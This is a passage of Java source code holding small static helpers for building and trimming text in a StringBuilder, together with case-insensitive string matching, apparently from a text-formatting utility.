            sb.append(text);
        }
    }

    private static void newline(StringBuilder sb) {
        int len = sb.length();
        if (len > 0 && sb.charAt(len - 1) == ' ') {
            sb.setLength(len - 1);
        }
        sb.append('\n');
    }

    private static void space(StringBuilder sb) {
        int len = sb.length();
        if (len > 0 && sb.charAt(len - 1) != ' ' && sb.charAt(len - 1) != '\n') {
            sb.append(' ');
        }
    }

    private static String trim(StringBuilder sb) {
        int len = sb.length();
        while (len > 0 && sb.charAt(len - 1) == ' ') {
            len--;
        }
        sb.setLength(len);
        return sb.toString();
    }

    private static boolean isLetter(char c) {
        return (c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') || (c >= '0' && c <= '9') || c == '_';
    }

    private static int indexOfIgnoreCase(String s, String lowerWord) {
        for (int i = 0, n = s.length() - lowerWord.length(); i <= n; i++) {
            if (s.regionMatches(true, i, lowerWord, 0, lowerWord.length())) {
                return i;
            }
        }
        return -1;
    }

    private static boolean endsWithIgnoreCase(String s, String suffix) {
        return s.regionMatches(true, s.length() - suffix.length(), suffix, 0, suffix.length());
    }
}
